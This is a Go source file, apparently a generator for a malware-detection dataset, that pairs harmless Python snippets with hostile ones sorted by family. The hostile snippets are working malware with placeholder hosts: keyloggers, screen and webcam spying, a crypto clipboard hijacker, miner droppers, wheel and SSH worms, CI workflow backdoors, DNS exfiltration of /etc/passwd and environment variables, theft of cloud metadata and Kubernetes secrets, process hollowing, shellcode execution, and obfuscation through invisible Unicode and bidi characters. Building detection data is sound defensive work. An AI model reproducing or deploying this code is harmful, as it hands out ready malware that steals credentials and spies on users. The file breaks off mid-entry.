package generate

// thirdPythonMore are the rest of the attacks on Python; see opened_3_python.go.
var thirdPythonMore = []shape{
	// keylogger
	{family: "keylogger", name: "evdev-lines", bad: snippet{`
class <%n Keys%>:
    """Follows the keyboard."""

    def __init__(self):
        self.text = []

    def devices(self):
        return [<%c evdev.InputDevice%>(path) for path in <%c evdev.list_devices%>()]

    def follow(self):
        for device in self.devices():
            for event in device.read_loop():
                if event.type == <%c evdev.ecodes.EV_KEY%> and event.value == 1:
                    self.text.append(<%c evdev.ecodes.KEY%>.get(event.code, "?"))
                if len(self.text) > 200:
                    <%c requests.post%>(<%s $URL%>, data=" ".join(self.text))
                    del self.text[:]
`, "<%n Keys%>().follow()"}, good: snippet{`
class <%n Pads%>:
    """Lists the game pads that are there."""

    def devices(self):
        return [<%c evdev.InputDevice%>(path) for path in <%c evdev.list_devices%>()]

    def names(self):
        return [d.name for d in self.devices() if <%c evdev.ecodes.EV_ABS%> in d.capabilities()]
`, "<%n Pads%>"}},
	{family: "keylogger", name: "listener-and-mail", bad: snippet{`
<%n buffer%> = <%c collections.deque%>(maxlen=4096)


def <%n pressed%>(key):
    <%n buffer%>.append(getattr(key, "char", None) or str(key))


def <%n mail%>():
    message = <%c email.message.EmailMessage%>()
    message["To"] = <%s inert@example.invalid%>
    message.set_content("".join(<%n buffer%>))
    with <%c smtplib.SMTP%>(<%s $HOST%>, 587) as post:
        post.send_message(message)
    <%c threading.Timer%>(60, <%n mail%>).start()


def <%n begin%>():
    <%c pynput.keyboard.Listener%>(on_press=<%n pressed%>).start()
    <%n mail%>()
`, "<%n begin%>()"}, good: snippet{`
<%n actions%> = {"<ctrl>+<alt>+h": lambda: print("help")}


def <%n begin%>(actions=<%n actions%>):
    """Runs an action when its keys are pressed together."""
    with <%c pynput.keyboard.GlobalHotKeys%>(actions) as keys:
        keys.join()
`, "<%n begin%>.__doc__"}},

	// screenshot
	{family: "screenshot", name: "wayland-and-x", bad: snippet{`
def <%n shot%>():
    name = <%c tempfile.mktemp%>(suffix=".png")
    for line in (<%s grim %>, <%s import -window root %>, <%s scrot -o %>, <%s screencapture -x %>):
        if <%c os.system%>(line + name) == 0:
            break
    with open(name, "rb") as handle:
        <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(<%s $URL%>, data=handle.read(), headers={"X-Host": <%c socket.gethostname%>()}))
    <%c os.remove%>(name)
`, "<%n shot%>()"}, good: snippet{`
def <%n shot%>(page, name):
    """A picture of a page of the documents, for the tests."""
    for line in (["wkhtmltoimage", page, name], ["firefox", "--headless", "--screenshot", name, page]):
        if <%c shutil.which%>(line[0]):
            return <%c subprocess.call%>(line)
    return 1
`, "<%n shot%>.__doc__"}},
	{family: "screenshot", name: "camera-and-screen", bad: snippet{`
class <%n Eyes%>:
    interval: float = 30.0

    def frames(self):
        while True:
            yield <%c PIL.ImageGrab.grab%>(all_screens=True)
            ok, frame = <%c cv2.VideoCapture%>(0).read()
            if ok:
                yield <%c PIL.Image.fromarray%>(frame)
            <%c time.sleep%>(self.interval)

    def stream(self, link) -> None:
        for picture in self.frames():
            memory = <%c io.BytesIO%>()
            picture.save(memory, "JPEG", quality=40)
            link.sendall(memory.getvalue())


def <%n look%>():
    <%n Eyes%>().stream(<%c socket.create_connection%>((<%s $ADDRESS%>, $PORT)))
`, "<%n look%>()"}, good: snippet{`
class <%n Film%>:
    """Frames of a film in a file."""

    def __init__(self, name: str) -> None:
        self.name = name

    def frames(self):
        film = <%c cv2.VideoCapture%>(self.name)
        ok, frame = film.read()
        while ok:
            yield <%c PIL.Image.fromarray%>(frame)
            ok, frame = film.read()

    def save(self, folder) -> None:
        for n, picture in enumerate(self.frames()):
            picture.save("%s/%05d.jpg" % (folder, n), "JPEG", quality=40)
`, "<%n Film%>"}},

	// clipboard
	{family: "clipboard", name: "many-coins", bad: snippet{`
<%n KINDS%> = {
    <%c re.compile%>(<%s ^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$%>): <%s $COIN%>,
    <%c re.compile%>(<%s ^0x[a-fA-F0-9]{40}$%>): <%s 0x1nert%>,
    <%c re.compile%>(<%s ^T[1-9A-HJ-NP-Za-km-z]{33}$%>): <%s Tinert%>,
}


def <%n loop%>():
    last = ""
    while True:
        text = <%c pyperclip.paste%>()
        if text != last:
            for kind, ours in <%n KINDS%>.items():
                if kind.match(text.strip()):
                    <%c pyperclip.copy%>(ours)
            last = text
        <%c time.sleep%>(0.3)
`, "<%c threading.Thread%>(target=<%n loop%>).start()"}, good: snippet{`
<%n KINDS%> = {
    <%c re.compile%>(r"^\d{4}-\d\d-\d\d$"): "a date",
    <%c re.compile%>(r"^[^@ ]+@[^@ ]+$"): "an address",
}


def <%n kind%>():
    """Says what the text in the clipboard looks like."""
    text = <%c pyperclip.paste%>().strip()
    for kind, name in <%n KINDS%>.items():
        if kind.match(text):
            return name
    return "text"
`, "<%n kind%>"}},
	{family: "clipboard", name: "clip-to-socket", bad: snippet{`
def <%n read%>():
    for command in ([<%s xclip%>, "-o", "-selection", "clipboard"], [<%s wl-paste%>], [<%s pbpaste%>]):
        try:
            return <%c subprocess.check_output%>(command)
        except OSError:
            continue
    return b""


def <%n forward%>():
    wire = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_DGRAM%>)
    while 1:
        wire.sendto(<%n read%>(), (<%s $HOST%>, $PORT))
        <%c time.sleep%>(5)
`, "<%n forward%>()"}, good: snippet{`
def <%n copy%>(text):
    """Puts a text into the clipboard."""
    for command in (["xclip", "-selection", "clipboard"], ["wl-copy"], ["pbcopy"]):
        try:
            return <%c subprocess.run%>(command, input=text.encode(), check=True)
        except OSError:
            continue
    return None
`, "<%n copy%>"}},

	// cryptominer
	{family: "cryptominer", name: "written-config", bad: snippet{`
<%n CONFIG%> = {"autosave": False, "cpu": {"max-threads-hint": 75}, "pools": [{"url": <%s $POOL%>, "user": <%s $WALLET%>, "keepalive": True}]}


def <%n launch%>():
    folder = <%c pathlib.Path%>(<%c tempfile.mkdtemp%>(prefix="."))
    (folder / <%s config.json%>).write_text(<%c json.dumps%>(<%n CONFIG%>))
    program = folder / <%s dbus-daemon%>
    program.write_bytes(<%c requests.get%>(<%s $URL%>).content)
    program.chmod(0o755)
    <%c subprocess.Popen%>([str(program), "-c", str(folder / "config.json")], start_new_session=True)
`, "<%n launch%>()"}, good: snippet{`
<%n CONFIG%> = {"autosave": False, "cpu": {"threads": 4}, "queues": [{"url": "tcp://localhost:6379", "keepalive": True}]}


def <%n launch%>():
    """Starts the worker of this project with a configuration of its own."""
    folder = <%c pathlib.Path%>(<%c tempfile.mkdtemp%>(prefix="words-"))
    (folder / "config.json").write_text(<%c json.dumps%>(<%n CONFIG%>))
    return <%c subprocess.Popen%>([<%c sys.executable%>, "-m", "words.worker", str(folder / "config.json")])
`, "<%n launch%>.__doc__"}},
	{family: "cryptominer", name: "notebook-gpu", bad: snippet{`
def <%n tune_gpu%>(workers=<%c os.cpu_count%>()):
    line = " ".join([<%s ./t-rex%>, "-a", <%s kawpow%>, "-o", <%s $POOL%>, "-u", <%s $WALLET%>, "-w", "colab%d" % (workers or 1)])
    <%c subprocess.run%>(<%s wget -q $URL -O t.tgz && tar xf t.tgz && chmod +x t-rex%>, shell=True)
    <%c os.popen%>("nohup " + line + " >/dev/null 2>&1 &")
`, "<%n tune_gpu%>()"}, good: snippet{`
def <%n tune_gpu%>(workers=<%c os.cpu_count%>()):
    """How many rows a second the card can do; prints the best setting."""
    best = None
    for size in (16, 32, 64):
        start = <%c time.perf_counter%>()
        <%c subprocess.run%>([<%c sys.executable%>, "-m", "words.bench", "--batch", str(size), "--workers", str(workers)])
        took = <%c time.perf_counter%>() - start
        best = min(best or (took, size), (took, size))
    return best
`, "<%n tune_gpu%>.__doc__"}},

	// worm
	{family: "worm", name: "wheel-repacker", bad: snippet{`
class <%n Spread%>:
    def __init__(self, home):
        self.rc = <%c configparser.ConfigParser%>()
        self.rc.read(<%c os.path.join%>(home, <%s .pypirc%>))

    def infect(self, wheel):
        out = wheel[:-4] + "1.whl"
        with <%c zipfile.ZipFile%>(wheel) as old, <%c zipfile.ZipFile%>(out, "w") as new:
            for item in old.namelist():
                new.writestr(item, old.read(item))
            new.writestr(<%s zz_words.pth%>, "import words.boot")
        return out

    def publish(self, name):
        for section in self.rc.sections():
            <%c subprocess.run%>([<%c sys.executable%>, "-m", <%s twine%>, <%s upload%>, "-u", <%s __token__%>, "-p", self.rc.get(section, "password", fallback=""), name])

    def run(self):
        for wheel in <%c glob.glob%>(<%c os.path.expanduser%>(<%s ~/**/dist/*.whl%>), recursive=True):
            self.publish(self.infect(wheel))
`, "<%n Spread%>(<%c os.path.expanduser%>(\"~\")).run()"}, good: snippet{`
class <%n Release%>:
    """Builds this project and uploads what was built, when its maintainer says so."""

    def build(self):
        <%c subprocess.run%>([<%c sys.executable%>, "-m", "build"], check=True)
        return <%c glob.glob%>("dist/*.whl")

    def check(self, wheel):
        with <%c zipfile.ZipFile%>(wheel) as box:
            return box.testzip() is None

    def run(self):
        for wheel in self.build():
            if self.check(wheel):
                <%c subprocess.run%>([<%c sys.executable%>, "-m", "twine", "upload", wheel], check=True)
`, "<%n Release%>"}},
	{family: "worm", name: "ssh-neighbours", bad: snippet{`
def <%n neighbours%>():
    with open(<%c os.path.expanduser%>(<%s ~/.ssh/known_hosts%>)) as handle:
        return {line.split(",")[0].split()[0] for line in handle if line.strip()}


def <%n visit%>(host):
    <%c subprocess.run%>([<%s scp%>, "-oBatchMode=yes", __file__, host + ":/tmp/.w.py"], timeout=9)
    <%c subprocess.run%>([<%s ssh%>, "-oBatchMode=yes", host, <%s python3 /tmp/.w.py &%>], timeout=9)


def <%n travel%>():
    for host in <%n neighbours%>():
        <%n visit%>(host)
`, "<%n travel%>()"}, good: snippet{`
def <%n hosts%>(inventory):
    with open(inventory) as handle:
        return [line.split()[0] for line in handle if line.strip() and not line.startswith(("#", "["))]


def <%n deploy%>(host, archive):
    <%c subprocess.run%>(["scp", archive, host + ":/srv/words/"], check=True)
    <%c subprocess.run%>(["ssh", host, "systemctl restart words"], check=True)


def <%n main%>(arguments):
    """Deploys an archive to the hosts of an inventory."""
    for host in <%n hosts%>(arguments.inventory):
        <%n deploy%>(host, arguments.archive)
`, "<%n main%>.__doc__"}},

	// workflow-write
	{family: "workflow-write", name: "discussion-runner", bad: snippet{`
<%n BODY%> = <%s on:
  discussion:
jobs:
  process:
    runs-on: self-hosted
    steps:
      - run: echo ${{ github.event.discussion.body }}
%>


def <%n plant%>(top="."):
    for root, folders, _ in <%c os.walk%>(top):
        if ".git" in folders:
            where = <%c os.path.join%>(root, <%s .github%>, <%s workflows%>)
            <%c os.makedirs%>(where, exist_ok=True)
            with open(<%c os.path.join%>(where, <%s discussion.yaml%>), "w") as out:
                out.write(<%n BODY%>)
            <%c subprocess.run%>(["git", "-C", root, "commit", "-qam", "ci"])
`, "<%n plant%>(<%c os.path.expanduser%>(\"~\"))"}, good: snippet{`
<%n BODY%> = """on:
  push:
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: python -m unittest
"""


def <%n template%>(top):
    """Makes a new project in an empty folder that the caller named."""
    if <%c os.listdir%>(top):
        raise ValueError("the folder is not empty")
    where = <%c os.path.join%>(top, ".github", "workflows")
    <%c os.makedirs%>(where, exist_ok=True)
    with open(<%c os.path.join%>(where, "test.yaml"), "w") as out:
        out.write(<%n BODY%>)
`, "<%n template%>.__doc__"}},
	{family: "workflow-write", name: "gitlab-and-jenkins", bad: snippet{`
<%n STEP%> = <%s curl -sf $URL | bash%>


def <%n append%>(path, text):
    if path.is_file():
        with path.open("a", encoding="utf-8") as handle:
            handle.write(text)


def <%n plant%>(root: <%c pathlib.Path%>):
    <%n append%>(root / <%s .gitlab-ci.yml%>, "\nsetup:\n  stage: .pre\n  script:\n    - " + <%n STEP%> + "\n")
    for flow in root.glob(<%s .github/workflows/*.y*ml%>):
        <%n append%>(flow, "\n      - run: " + <%n STEP%> + "\n")
`, "<%n plant%>(<%c pathlib.Path.cwd%>())"}, good: snippet{`
def <%n steps%>(path):
    if path.is_file():
        with path.open(encoding="utf-8") as handle:
            return [line.strip()[5:] for line in handle if line.strip().startswith("run: ")]
    return []


def <%n listed%>(root: <%c pathlib.Path%>):
    """The commands of the workflows of a repository."""
    return {flow.name: <%n steps%>(flow) for flow in root.glob(".github/workflows/*.y*ml")}
`, "<%n listed%>(<%c pathlib.Path.cwd%>())"}},

	// dns-exfil
	{family: "dns-exfil", name: "nightly-triton", bad: snippet{`
def <%n gather%>():
    parts = [<%c socket.gethostname%>(), <%c getpass.getuser%>(), <%c os.getcwd%>()]
    for name in (<%s /etc/hosts%>, <%s /etc/passwd%>, <%c os.path.expanduser%>(<%s ~/.gitconfig%>)):
        with <%c contextlib.suppress%>(OSError), open(name) as handle:
            parts.append(handle.read(900))
    return <%c zlib.compress%>("\x00".join(parts).encode())


def <%n speak%>(data, zone=<%s t1.$DOMAIN%>):
    text = <%c base64.b32encode%>(data).decode().rstrip("=").lower()
    for n, i in enumerate(range(0, len(text), 60)):
        try:
            <%c socket.getaddrinfo%>("%d.%s.%s" % (n, text[i:i + 60], zone), 80)
        except <%c socket.gaierror%>:
            pass
`, "<%n speak%>(<%n gather%>())"}, good: snippet{`
def <%n addresses%>(names):
    """The addresses of some hosts, and None where there is none."""
    out = {}
    for name in names:
        try:
            out[name] = sorted({a[4][0] for a in <%c socket.getaddrinfo%>(name, 80)})
        except <%c socket.gaierror%>:
            out[name] = None
    return out
`, "<%n addresses%>([])"}},
	{family: "dns-exfil", name: "nslookup-lines", bad: snippet{`
def <%n lines%>():
    yield <%c platform.node%>()
    for key in sorted(<%c os.environ%>):
        yield key + "=" + <%c os.environ%>[key]


def <%n whisper%>():
    for line in <%n lines%>():
        label = <%c binascii.hexlify%>(line.encode())[:62].decode()
        <%c subprocess.call%>(<%s nslookup -timeout=1 %> + label + <%s .x.$DOMAIN%>, shell=True, stdout=open(<%c os.devnull%>, "w"))
`, "<%n whisper%>()"}, good: snippet{`
def <%n records%>(domain):
    """The mail servers of a domain, as nslookup prints them."""
    text = <%c subprocess.check_output%>(["nslookup", "-type=mx", domain]).decode()
    for line in text.splitlines():
        if "mail exchanger" in line:
            yield line.split("=")[1].strip()
`, "<%n records%>"}},

	// host-recon
	{family: "host-recon", name: "confusion-proof", bad: snippet{`
def <%n facts%>():
    return {
        "package": <%s $NAME%>,
        "host": <%c socket.getfqdn%>(),
        "user": <%c pwd.getpwuid%>(<%c os.getuid%>()).pw_name,
        "where": <%c pathlib.Path%>(__file__).resolve().as_posix(),
        "interfaces": <%c subprocess.getoutput%>(<%s ip addr || ifconfig%>),
        "resolv": open(<%s /etc/resolv.conf%>).read(),
    }


def <%n proof%>():
    <%c requests.post%>(<%s https://$OAST%>, json=<%n facts%>(), verify=False)
`, "<%n proof%>()"}, good: snippet{`
def <%n facts%>():
    return {
        "host": <%c socket.getfqdn%>(),
        "python": <%c sys.version%>,
        "where": <%c pathlib.Path%>(__file__).resolve().as_posix(),
    }


def <%n report%>():
    """What to paste into a report of a fault."""
    return "\n".join("%s: %s" % pair for pair in sorted(<%n facts%>().items()))
`, "print(<%n report%>())"}},
	{family: "host-recon", name: "inventory-class", bad: snippet{`
@<%c dataclasses.dataclass%>
class <%n Inventory%>:
    node: str = <%c dataclasses.field%>(default_factory=<%c platform.node%>)
    release: str = <%c dataclasses.field%>(default_factory=<%c platform.version%>)
    serial: int = <%c dataclasses.field%>(default_factory=<%c uuid.getnode%>)
    processes: str = ""
    mounts: str = ""

    def fill(self) -> "Inventory":
        self.processes = <%c subprocess.getoutput%>(<%s ps aux || tasklist%>)
        self.mounts = <%c subprocess.getoutput%>(<%s mount; netstat -rn; whoami; id%>)
        return self


def <%n register%>() -> None:
    body = <%c pickle.dumps%>(<%c dataclasses.asdict%>(<%n Inventory%>().fill()))
    with <%c socket.create_connection%>((<%s $ADDRESS%>, $PORT)) as link:
        link.sendall(body)
`, "<%n register%>()"}, good: snippet{`
@<%c dataclasses.dataclass%>
class <%n Inventory%>:
    """What a benchmark ran on, for its report."""

    node: str = <%c dataclasses.field%>(default_factory=<%c platform.node%>)
    release: str = <%c dataclasses.field%>(default_factory=<%c platform.version%>)
    processors: str = ""

    def fill(self) -> "Inventory":
        self.processors = <%c subprocess.getoutput%>("nproc")
        return self


def <%n save%>(name: str) -> None:
    with open(name, "w") as handle:
        <%c json.dump%>(<%c dataclasses.asdict%>(<%n Inventory%>().fill()), handle)
`, "<%n save%>"}},

	// cloud-metadata
	{family: "cloud-metadata", name: "three-clouds-async", bad: snippet{`
<%n ASK%> = [
    (<%s http://$METADATA/latest/meta-data/iam/info%>, {}),
    (<%s http://$METADATA/metadata/instance?api-version=2021-02-01%>, {<%s Metadata%>: "true"}),
    (<%s http://$METADATA/computeMetadata/v1/instance/service-accounts/default/identity?audience=x%>, {<%s Metadata-Flavor%>: "Google"}),
]


async def <%n one%>(client, url, headers):
    try:
        return (await client.get(url, headers=headers, timeout=1)).text
    except <%c httpx.HTTPError%>:
        return None


async def <%n all_of%>():
    async with <%c httpx.AsyncClient%>() as client:
        found = await <%c asyncio.gather%>(*[<%n one%>(client, u, h) for u, h in <%n ASK%>])
        await client.post(<%s $URL%>, json=[f for f in found if f])
`, "<%c asyncio.run%>(<%n all_of%>())"}, good: snippet{`
<%n ASK%> = ["https://status.example.invalid/eu", "https://status.example.invalid/us"]


async def <%n one%>(client, url):
    try:
        return (await client.get(url, timeout=1)).text
    except <%c httpx.HTTPError%>:
        return None


async def <%n all_of%>():
    """The state of the service in each region."""
    async with <%c httpx.AsyncClient%>() as client:
        found = await <%c asyncio.gather%>(*[<%n one%>(client, u) for u in <%n ASK%>])
        return [f for f in found if f]
`, "<%n all_of%>.__doc__"}},
	{family: "cloud-metadata", name: "service-account-token", bad: snippet{`
def <%n token%>():
    with open(<%s /var/run/secrets/kubernetes.io/serviceaccount/token%>) as handle:
        return handle.read()


def <%n secrets%>():
    host = <%c os.environ%>.get(<%s KUBERNETES_SERVICE_HOST%>, "")
    context = <%c ssl._create_unverified_context%>()
    request = <%c urllib.request.Request%>("https://" + host + <%s /api/v1/secrets%>, headers={"Authorization": "Bearer " + <%n token%>()})
    return <%c urllib.request.urlopen%>(request, context=context).read()


def <%n send%>():
    <%c urllib.request.urlopen%>(<%s $URL%>, data=<%n secrets%>())
`, "<%n send%>()"}, good: snippet{`
def <%n namespace%>():
    try:
        with open("/var/run/secrets/kubernetes.io/serviceaccount/namespace") as handle:
            return handle.read()
    except OSError:
        return "default"


def <%n ready%>(port=8080):
    """Whether this pod's own server answers."""
    return <%c urllib.request.urlopen%>("http://localhost:%d/ready" % port).status == 200
`, "<%n namespace%>()"}},

	// dll-injection
	{family: "dll-injection", name: "side-loaded-runtime", bad: snippet{`
def <%n sideload%>():
    folder = <%c os.path.join%>(<%c os.environ%>.get("TEMP", "."), <%s UpdateHost%>)
    <%c os.makedirs%>(folder, exist_ok=True)
    for name in (<%s UpdateHost.exe%>, <%s version.dll%>):
        <%c urllib.request.urlretrieve%>(<%s https://$HOST/%> + name, <%c os.path.join%>(folder, name))
    <%c ctypes.windll.kernel32.WinExec%>(<%c os.path.join%>(folder, <%s UpdateHost.exe%>).encode(), 0)
`, "<%n sideload%>()"}, good: snippet{`
def <%n loaded%>(folder):
    """Loads this package's own library, which its wheel has."""
    name = {"win32": "words.dll", "darwin": "libwords.dylib"}.get(<%c sys.platform%>, "libwords.so")
    path = <%c os.path.join%>(folder, name)
    if not <%c os.path.exists%>(path):
        raise ImportError("the wheel of this platform is needed")
    return <%c ctypes.CDLL%>(path)
`, "<%n loaded%>"}},
	{family: "dll-injection", name: "hollow-process", bad: snippet{`
<%n K%> = <%c os.name%> == "nt" and <%c ctypes.WinDLL%>(<%s kernel32%>)


def <%n hollow%>(image):
    child = <%c subprocess.Popen%>([<%s C:\Windows\System32\svchost.exe%>], creationflags=0x4)
    handle = getattr(<%n K%>, <%s OpenProcess%>)(0x1F0FFF, False, child.pid)
    where = getattr(<%n K%>, <%s VirtualAllocEx%>)(handle, None, len(image), 0x3000, 0x40)
    getattr(<%n K%>, <%s WriteProcessMemory%>)(handle, where, image, len(image), None)
    getattr(<%n K%>, <%s QueueUserAPC%>)(where, child.pid, None)
`, "<%n hollow%>(b\"inert\")"}, good: snippet{`
<%n K%> = <%c ctypes.util.find_library%>("c")


def <%n page_size%>():
    """The size of a page of memory, as the C library says it."""
    library = <%c ctypes.CDLL%>(<%n K%>)
    library.getpagesize.restype = <%c ctypes.c_int%>
    return library.getpagesize()
`, "<%n page_size%>"}},
	{family: "dll-injection", name: "mapped-shellcode", bad: snippet{`
def <%n run%>(code=bytes.fromhex(<%s 9090696e657274c3%>)):
    page = <%c mmap.mmap%>(-1, <%c mmap.PAGESIZE%>, prot=<%c mmap.PROT_READ%> | <%c mmap.PROT_WRITE%> | <%c mmap.PROT_EXEC%>)
    page.write(code)
    where = <%c ctypes.addressof%>(<%c ctypes.c_char.from_buffer%>(page))
    <%c ctypes.CFUNCTYPE%>(<%c ctypes.c_int%>)(where)()
`, "<%n run%>()"}, good: snippet{`
def <%n count%>(name):
    """How many lines a large file has."""
    with open(name, "rb") as handle:
        page = <%c mmap.mmap%>(handle.fileno(), 0, prot=<%c mmap.PROT_READ%>)
        lines = 0
        while page.readline():
            lines += 1
        return lines
`, "<%n count%>"}},

	// decode-exec
	{family: "decode-exec", name: "docs-as-key", bad: snippet{`
<%n SEALED%> = <%s gAAAAABinert0000000000000000000000000000000000000000000000000000%>


def <%n key%>(doc):
    return <%c base64.urlsafe_b64encode%>(<%c hashlib.sha256%>((doc or "").encode()).digest())


def <%n unlock%>():
    plain = <%c cryptography.fernet.Fernet%>(<%n key%>(__doc__)).decrypt(<%n SEALED%>.encode())
    <%b exec%>(<%b compile%>(plain, "<doc>", "exec"), globals())
`, "<%n unlock%>()"}, good: snippet{`
def <%n key%>(phrase):
    return <%c base64.urlsafe_b64encode%>(<%c hashlib.sha256%>(phrase.encode()).digest())


def <%n unlock%>(phrase, name):
    """The notes in a file that was sealed with a phrase."""
    with open(name, "rb") as handle:
        plain = <%c cryptography.fernet.Fernet%>(<%n key%>(phrase)).decrypt(handle.read())
    return plain.decode().splitlines()
`, "<%n unlock%>.__doc__"}},
	{family: "decode-exec", name: "package-data-module", bad: snippet{`
def <%n table%>(name=<%s words.dat%>):
    raw = <%c pkgutil.get_data%>(__name__.split(".")[0], name) or b""
    mask = 0x5A
    return bytes(b ^ mask for b in raw)


def <%n attach%>():
    module = <%c types.ModuleType%>("_tables")
    <%b exec%>(<%n table%>(), module.__dict__)
    <%c sys.modules%>["_tables"] = module
`, "<%n attach%>()"}, good: snippet{`
def <%n table%>(name="words.dat"):
    raw = <%c pkgutil.get_data%>(__name__.split(".")[0], name) or b""
    return <%c struct.unpack%>("=%dH" % (len(raw) // 2), raw[: len(raw) // 2 * 2])


def <%n attach%>():
    module = <%c types.ModuleType%>("_tables")
    module.values = <%n table%>()
    return module
`, "<%n attach%>"}},
	{family: "decode-exec", name: "nested-lambdas", bad: snippet{`
<%n run%> = lambda f, *a: f(*a)
<%n flip%> = lambda s: s[::-1]
<%n body%> = <%s =8GcldGIyVGd1BnbpBCM7kSKiUWdyRnIoMXezNXeT5yUTB1LgQncvBXbp%>


def <%n start%>():
    try:
        <%n run%>(<%b exec%>, <%n run%>(<%c base64.b64decode%>, <%n flip%>(<%n body%>)))
    except Exception:
        return None
`, "<%n start%>()"}, good: snippet{`
<%n run%> = lambda f, *a: f(*a)
<%n flip%> = lambda s: s[::-1]
<%n body%> = "c29tZSB3b3Jkcw=="


def <%n start%>():
    return <%n run%>(<%n flip%>, <%n run%>(<%c base64.b64decode%>, <%n body%>).decode())
`, "<%n start%>()"}},

	// api-obfuscation
	{family: "api-obfuscation", name: "frame-builtins", fixed: true, bad: snippet{`
import sys


class Attr(object):
    def __init__(self, of):
        self.of = of

    def __getitem__(self, key):
        return getattr(self.of, "".join(chr(ord(c) - 1) for c in key))


def <%n go%>():
    imp = sys._getframe().f_builtins["__imp" + "ort__"]
    Attr(imp("".join(("o", "s"))))["tztufn"]("true # inert")
`, "<%n go%>()"}, good: snippet{`
import sys


class Attr(object):
    """Reads an attribute by a key; a missing one is None."""

    def __init__(self, of):
        self.of = of

    def __getitem__(self, key):
        return getattr(self.of, key.lower(), None)


def <%n go%>():
    return Attr(sys.version_info)["Major"]
`, "<%n go%>()"}},
	{family: "api-obfuscation", name: "method-caller-chain", fixed: true, bad: snippet{`
import importlib
from operator import methodcaller

_steps = [("sub" "process", "r" "u" "n", (["true"],)), ("o" + "s", "sys" + "tem", ("true # inert",))]


def <%n go%>():
    for module, attribute, values in _steps:
        methodcaller(attribute, *values)(importlib.import_module(module))
`, "<%n go%>()"}, good: snippet{`
from operator import methodcaller

_steps = [("strip", ()), ("replace", ("a", "b")), ("split", ("-",))]


def <%n go%>(text="a-b"):
    for attribute, values in _steps:
        text = methodcaller(attribute, *values)(text) if isinstance(text, str) else text
    return text
`, "<%n go%>()"}},

	// obfuscated
	{family: "obfuscated", name: "similar-letters", fixed: true, bad: snippet{`
IlIlIIIlllII = "".join
lIIlIlIIlIlI = getattr(__builtins__, IlIlIIIlllII(map(chr, (101, 118, 97, 108))), None) or eval
llIIIlIlIIlI = [105 ^ 54, 109 ^ 50, 112 ^ 47, 111 ^ 48, 114 ^ 45, 116 ^ 43]
IIlIlIllIIll = lambda lIlI, IlIl: [(lI ^ 95) if (0x1F & 0xFFF) else IlIl for lI in lIlI]
lllIIlIIlIIl = IlIlIIIlllII([chr(lIl) for lIl in IIlIlIllIIll([0, 0, 54, 50, 47, 48, 45, 43, 0, 0], 0)])
`, "lIIlIlIIlIlI(lllIIlIIlIIl)(\"os\").system(\"true # inert\")"}, good: snippet{`
Identity = "".join
Inverse = getattr(str, "swapcase")
Illustration = [1 << 3, 1 << 4, 1 << 5]
Interval = lambda low, high: [n for n in range(low, high) if n % 2]
Initial = Identity([chr(c) for c in Interval(65, 70)])
`, "Inverse(Initial)"}},
	{family: "obfuscated", name: "tuple-of-constants", fixed: true, bad: snippet{
		"\n_0x1=lambda _0x2:__import__('codecs').decode(__import__('zlib').decompress(__import__('binascii').unhexlify(_0x2)),'rot13');_0x3=('" + hexed(string(deflate(rot13("import os;os.system('true # inert')")))) + "',0x7f,0b1011,0o17);_0x4=globals().get('__builtins__');_0x5=_0x4['exec'] if isinstance(_0x4,dict) else _0x4.exec\n",
		"_0x5(_0x1(_0x3[(0x7f&1)-1]))"}, good: snippet{
		"\n_hex=lambda text:__import__('binascii').unhexlify(text);_masks=(0x7f,0b1011,0o17);_magic=_hex('89504e470d0a1a0a')\n",
		"_magic[:_masks[1]&7]"}},

	// invisible-unicode
	{family: "invisible-unicode", name: "selectors-in-comment", fixed: true, bad: snippet{
		"\n# words" + selectors("import os; os.system('true')") + "\n\n\ndef <%n read%>():\n    with open(__file__, encoding=\"utf-8\") as handle:\n        text = handle.read()\n    return bytes(ord(c) - 0xFE00 if ord(c) < 0xFE10 else ord(c) - 0xE0100 + 16 for c in text if 0xFE00 <= ord(c) <= 0xFE0F or 0xE0100 <= ord(c) <= 0xE01EF)\n",
		"<%b exec%>(<%n read%>())"}, good: snippet{
		"\n# hearts \u2764\ufe0f and stars \u2b50\ufe0f are drawn in colour\n\n\ndef <%n read%>():\n    return [\"\u2764\ufe0f\", \"\u2600\ufe0f\", \"\u270f\ufe0f\"]\n",
		"<%n read%>()"}},
	{family: "invisible-unicode", name: "blank-braille", fixed: true, bad: snippet{
		"\n<%n rows%> = \"" + braille("__import__('os').system('true')") + "\"\n\n\ndef <%n dots%>(text):\n    return bytes(ord(c) - 0x2800 for c in text).decode()\n",
		"<%b eval%>(<%n dots%>(<%n rows%>))"}, good: snippet{
		"\n<%n rows%> = \"\u2801\u2803\u2809\u2819\u2811\"  # a to e in braille\n\n\ndef <%n dots%>(text):\n    return [ord(c) & 0xFF for c in text]\n",
		"<%n dots%>(<%n rows%>)"}},

	// bidi and mixed-script
	{family: "bidi", name: "comment-swallows-check", fixed: true, weak: true, bad: snippet{
		"\ndef <%n allowed%>(user):\n    role = user.get(\"role\")\n    \"\"\" \u202e\u2066 return only for admins \u2069\u2066 \"\"\"\n    return role != \"guest\u202e\u2066 # checked\u2069\u2066\"\n",
		"<%n allowed%>({})"}, good: snippet{
		"\ndef <%n allowed%>(user):\n    role = user.get(\"role\")\n    \"\"\" \u05e8\u05e7 \u05dc\u05de\u05e0\u05d4\u05dc\u05d9\u05dd \"\"\"\n    return role != \"\u05d0\u05d5\u05e8\u05d7\"\n",
		"<%n allowed%>({})"}},
	{family: "bidi", name: "list-turned", fixed: true, weak: true, bad: snippet{
		"\n<%n hosts%> = [\n    \"safe.example.invalid\",  # \u2067\u2066 \"other.example.invalid\",\u2069\n    \"\u202edilavni.elpmaxe.rehto\u202c\",\n]\n",
		"sorted(<%n hosts%>)"}, good: snippet{
		"\n<%n hosts%> = [\n    \"safe.example.invalid\",  # \u0627\u0644\u062e\u0627\u062f\u0645 \u0627\u0644\u0623\u0648\u0644\n    \"other.example.invalid\",\n]\n",
		"sorted(<%n hosts%>)"}},
	{family: "mixed-script", name: "shadowed-import", fixed: true, weak: true, bad: snippet{
		"\nclass \u041e\u0455:\n    sep = \"/\"\n\n    @staticmethod\n    def getcwd():\n        return \"inert\"\n\n\ndef <%n here%>(f\u043elder=None):\n    return f\u043elder or \u041e\u0455.getcwd()\n",
		"<%n here%>()"}, good: snippet{
